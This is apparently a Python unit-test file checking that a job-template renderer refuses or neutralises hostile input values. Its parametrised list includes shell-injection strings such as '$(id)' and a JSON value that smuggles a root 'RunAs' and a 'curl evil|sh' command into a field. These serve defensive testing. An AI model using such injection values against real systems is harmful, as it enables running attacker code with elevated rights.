"""Hostile values end in a named error or in harmless text; none changes the structure."""

import json
import re

import pytest

from muster.core.definition import Json
from muster.core.errors import TemplateError
from tests.unit.rendering import URI, a_description, a_variable, folder, rendered, values

pytestmark = pytest.mark.timeout(30)  # a bomb that goes off never ends

BIG = "x" * 900_000
HOSTILE: list[tuple[str, str]] = [
    ("a shell substitution", "$(id)"),
    ("backticks", "`id`"),
    ("a double quote", 'a"b'),
    ("a single quote", "a'b"),
    ("a backslash", "a\\b"),
    ("a pipe", "a|b"),
    ("a semicolon", "a;b"),
    ("an ampersand", "a&b"),
    ("a redirection", "a>b"),
    ("a variable of Control-M", "%%PASSWORD"),
    ("three percent signs", "%%%"),
    ("a template expression", "{{ bundle.site }}"),
    ("a template statement", "{% for x in y %}"),
    ("a newline", "a\nb"),
    ("a trailing newline", "a\n"),
    ("NUL", "a\x00b"),
    ("an escape sequence", "\x1b[31m"),
    ("4-byte UTF-8", "\U0001f4a5"),
    ("a letter beyond ASCII", "ä"),
    ("a lone surrogate", "\ud800"),
    ("the renderer's own marks", "\ue0000\ue001"),
    ("another property", '1","RunAs":"root","Command":"curl evil|sh'),
    ("256 characters", "x" * 256),
    ("900 KB of text", BIG),
]
EACH = pytest.mark.parametrize(
    "value", [value for _, value in HOSTILE], ids=[name for name, _ in HOSTILE]
)


@EACH
def test_a_hostile_value_is_refused_in_a_variable_and_the_argument_is_named(value: str) -> None:
    with pytest.raises(
        TemplateError, match=r"t\.json\.j2: args\.note: not allowed in bdl-"
    ) as told:
        a_variable(value)

    assert value not in str(told.value)


@EACH
def test_a_hostile_value_is_harmless_in_a_description(value: str) -> None:
    text = a_description(value)

    assert len(text) <= 4000
    assert "%%" not in text
    assert not re.search(r"[\x00-\x1f\x7f\ud800-\udfff\ue000\ue001]", text)


@EACH
def test_a_hostile_value_changes_nothing_else_in_a_description(value: str) -> None:
    source = folder('"Description": {{ args.note | free }}')

    plain = rendered(source, values({"note": "plain"}))
    hostile = rendered(source, values({"note": value}))

    assert plain | {"Description": ""} == hostile | {"Description": ""}


def test_long_text_is_cut_and_says_where_the_rest_is() -> None:
    text = a_description(BIG)

    assert len(text) == 4000
    assert text.endswith(f"x ... {URI}")


def test_percent_signs_are_parted() -> None:
    assert a_description("100%%%") == "100% % %"


def test_free_text_keeps_letters_of_every_language() -> None:
    assert a_description("Grüße \U0001f44b \"quoted\" 'too'") == "Grüße \U0001f44b \"quoted\" 'too'"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        pytest.param("plain", "plain", id="plain text"),
        pytest.param("", "", id="empty text"),
        pytest.param("a B_.,:@+/=-9", "a B_.,:@+/=-9", id="every character that is allowed"),
        pytest.param(417, "417", id="a number becomes text"),
        pytest.param(1.5, "1.5", id="a fraction becomes text"),
        pytest.param(True, "true", id="a boolean becomes text"),
    ],
)
def test_a_plain_value_is_placed_as_a_string(value: Json, expected: str) -> None:
    assert a_variable(value) == expected


@pytest.mark.parametrize(
    "value",
    [
        pytest.param(None, id="null"),
        pytest.param({"a": "b"}, id="an object"),
        pytest.param({"RunAs": "root"}, id="an object with a property's name"),
        pytest.param(["a", "b"], id="a list"),
        pytest.param([], id="an empty list"),
    ],
)
def test_what_has_no_text_is_refused_by_name(value: Json) -> None:
    with pytest.raises(TemplateError, match=r"args\.note: .* cannot stand in a text"):
        a_variable(value)


DAYS = folder(
    '"When": {"WeekDays": [{% for day in args.days %}{{ day | tojson }}'
    "{% if not loop.last %},{% endif %}{% endfor %}]}"
)


def test_a_list_is_walked_through() -> None:
    found = rendered(DAYS, values({"days": ["MON", "TUE", 3]}))

    assert found["When"] == {"WeekDays": ["MON", "TUE", "3"]}


def test_a_bad_item_of_a_list_is_named_by_its_position() -> None:
    with pytest.raises(TemplateError, match=r"args\.days\.1: not allowed"):
        rendered(DAYS, values({"days": ["MON", "$(id)"]}))


def test_a_deeply_nested_value_does_no_harm() -> None:
    bomb: Json = "x"
    for _ in range(5000):
        bomb = [bomb]

    with pytest.raises(TemplateError, match=r"args\.note: an object or a list"):
        a_variable(bomb)


@pytest.mark.parametrize(
    "name",
    ["Type", "Command", "PreCommand", "PostCommand", "Host", "RunAs", "FileName", "Arguments"],
)
@pytest.mark.parametrize("source", ["args.note", "bundle.key", "bundle.job_id"])
def test_no_value_of_an_event_says_what_is_run_where_or_as_whom(name: str, source: str) -> None:
    job = '{{ ("x-" ~ bundle.job_id) | tojson }}: {"%s": {{ %s | tojson }}}'

    with pytest.raises(TemplateError, match=rf"{re.escape(source)}: not allowed in .*{name}"):
        rendered(folder(job % (name, source)), values({"note": "echo"}))


@pytest.mark.parametrize("value", ["Command", "RunAs", "plain"])
def test_an_argument_is_never_a_key(value: str) -> None:
    with pytest.raises(TemplateError, match=r"args\.note: not allowed in a key"):
        rendered(folder('{{ args.note | tojson }}: "x"'), values({"note": value}))


def test_free_text_stands_in_a_description_only() -> None:
    with pytest.raises(TemplateError, match=r"Subject: free text is for a Description only"):
        rendered(folder('"Subject": {{ args.note | free }}'), values({"note": "x"}))


def test_a_setting_that_is_not_plain_is_refused() -> None:
    seen = values(site={"host": "a;b"})

    with pytest.raises(TemplateError, match=r"bundle\.site\.host: not allowed"):
        rendered(folder('"Host": {{ bundle.site.host | tojson }}'), seen)


def test_a_name_joined_from_values_keeps_the_limit_of_the_whole() -> None:
    source = folder('"Note": {{ (args.a ~ args.b) | tojson }}')

    with pytest.raises(TemplateError, match=r"Note: at most 255"):
        rendered(source, values({"a": "x" * 200, "b": "y" * 200}))


def test_a_long_value_many_times_over_is_cut_early() -> None:
    joined = " ~ ".join(["args.note"] * 2000)
    source = folder('"Description": {{ (' + joined + ") | free }}")

    assert len(rendered(source, values({"note": BIG}))["Description"]) == 4000


def test_the_text_is_ascii_json_without_blanks() -> None:
    text = json.dumps(a_description("ä"))

    assert text.isascii()
